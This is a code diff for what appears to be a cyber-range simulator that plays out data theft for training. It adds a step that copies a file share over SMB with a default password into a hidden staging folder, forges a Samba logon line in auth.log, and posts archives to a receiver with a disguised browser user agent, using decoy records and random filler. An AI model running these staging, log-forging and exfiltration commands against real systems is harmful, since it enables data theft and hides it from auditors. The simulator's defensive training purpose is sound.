@@ -54,28 +54,69 @@ Status run_commands(StepRun& run) {
   return Status::success();
 }
 
+// True when `server` runs Samba and `source` has smbclient (both standard-image guests).
+Expected<bool> speaks_smb(StepRun& run, const std::string& server, const std::string& source) {
+  auto smbd = run.sh(server, "if [ -x /usr/sbin/smbd ]; then echo smbd; else echo none; fi");
+  if (!smbd) return smbd.error();
+  if (smbd->out.rfind("smbd", 0) != 0) return false;
+  auto client =
+      run.sh(source, "if command -v smbclient >/dev/null; then echo smbclient; else echo none; fi");
+  if (!client) return client.error();
+  return client->out.rfind("smbclient", 0) == 0;
+}
+
+// The source logs on to the share over SMB and fetches it all: the file server's own
+// audit log records the connection and every file opened, with the source's address.
+Status copy_over_smb(StepRun& run, const std::string& server, const std::string& source,
+                     const std::string& share, const std::string& user, const std::string& stage) {
+  // By name when the source resolves it (the range DNS logs the lookup), else by address.
+  const std::string script = "mkdir -p " + shell_quote(stage) + " && cd " + shell_quote(stage) +
+                             " || return 1\n"
+                             "srv=" +
+                             shell_quote(server) + "\ngetent hosts \"$srv\" >/dev/null || srv=" +
+                             shell_quote(run.address(server)) +
+                             "\n"
+                             "timeout 50 smbclient \"//$srv/\"" +
+                             shell_quote(share) + " -U " +
+                             shell_quote(user + "%" + run.param_or("password", "Spring2025")) +
+                             " -c 'prompt OFF; recurse ON; mget *' > /dev/null";
+  return run.once(source, "smb", script);
+}
+
 Status smb_copy(StepRun& run) {
   auto server = target_host(run, "the file server");
   if (!server) return server.error();
   const std::string source = *run.param("source");
   if (auto h = run.host(source, "the host that connects (`source`)"); !h) return h.error();
-  const std::string share = "/srv/" + *run.param("share");
+  const std::string share_name = *run.param("share");
+  const std::string share = "/srv/" + share_name;
   const std::string user = run.param_or("user", "svc-backup");
   const std::string stage = run.param_or("staging_dir", "/tmp/.stage-" + run.tag());
+  auto smb = speaks_smb(run, *server, source);
+  if (!smb) return smb.error();
   // The share gets decoy resident records if it is empty, so the copy has something to take.
-  const std::string seed = "mkdir -p " + shell_quote(share) +
-                           " /var/log\n"
-                           "if [ -z \"$(ls -A " +
-                           shell_quote(share) +
-                           ")\" ]; then\n"
-                           "  for i in 1 2 3; do printf 'DECOY resident list %s (training "
-                           "data)\\nid,name,address\\n' \"$i\" > " +
-                           shell_quote(share) +
-                           "/resident_list_$i.csv; done\nfi\n"
-                           "echo \"$(date '+%b %e %H:%M:%S') $(hostname) smbd[2211]: "
-                           "pam_unix(samba:session): session opened for user " +
-                           user + " from " + run.address(source) + "\" >> /var/log/auth.log\n";
+  std::string seed = "mkdir -p " + shell_quote(share) +
+                     " /var/log\n"
+                     "if [ -z \"$(ls -A " +
+                     shell_quote(share) +
+                     ")\" ]; then\n"
+                     "  for i in 1 2 3; do printf 'DECOY resident list %s (training "
+                     "data)\\nid,name,address\\n' \"$i\" > " +
+                     shell_quote(share) + "/resident_list_$i.csv; done\nfi\n";
+  if (!*smb) {
+    // Without Samba the logon a real smbd would log is written the way it would be.
+    seed +=
+        "echo \"$(date '+%b %e %H:%M:%S') $(hostname) smbd[2211]: "
+        "pam_unix(samba:session): session opened for user " +
+        user + " from " + run.address(source) + "\" >> /var/log/auth.log\n";
+  }
   if (auto st = run.once(*server, "logon", seed); !st) return st;
+  if (*smb) {
+    if (auto st = copy_over_smb(run, *server, source, share_name, user, stage); !st) return st;
+    run.note("copied //" + *server + "/" + share_name + " over SMB to " + source + ":" + stage +
+             " as " + user);
+    return Status::success();
+  }
   auto tar = run.sh(*server, "tar cf - -C " + shell_quote(share) + " . | base64");
   if (!tar) return tar.error();
   std::string b64;
@@ -120,13 +161,20 @@ Status upload(StepRun& run) {
   if (auto st = install_http_receiver(run, "receiver_host", url); !st) return st;
   const std::string proxy = run.param_or("via_proxy", "");
   // Random filler when nothing was staged: a decoy of the declared size, no real data.
-  // The guest agent waits 60 s for a command, so the upload gives up before that.
+  // The guest agent waits 60 s for a command, so the upload gives up before that. curl
+  // where there is one (standard image): busybox wget posts a file without a length, which
+  // squid and nginx refuse (411).
   const std::string script =
       "[ -e " + shell_quote(archive) + " ] || head -c " + std::to_string(*mb * 1024 * 1024 + 4096) +
       " /dev/urandom > " + shell_quote(archive) + " || return 1\n" +
       (proxy.empty() ? "" : "export http_proxy=" + shell_quote("http://" + proxy) + "\n") +
-      "timeout 50 wget -q -O /dev/null -U 'Mozilla/5.0' --post-file " + shell_quote(archive) + " " +
-      shell_quote(url) + " || return 1\n" +
+      "if command -v curl >/dev/null; then\n"
+      "  curl -sSf --max-time 50 -o /dev/null -A 'Mozilla/5.0' --data-binary @" +
+      shell_quote(archive) + " " + shell_quote(url) +
+      " || return 1\n"
+      "else\n"
+      "  timeout 50 wget -q -O /dev/null -U 'Mozilla/5.0' --post-file " +
+      shell_quote(archive) + " " + shell_quote(url) + " || return 1\nfi\n" +
       evidence_line("/var/log/cyrange-sim/process.log", "upload " + archive + " -> " + url);
   if (auto st = run.once(*host, "upload", script); !st) return st;
   run.note("uploaded " + archive + " to " + url);
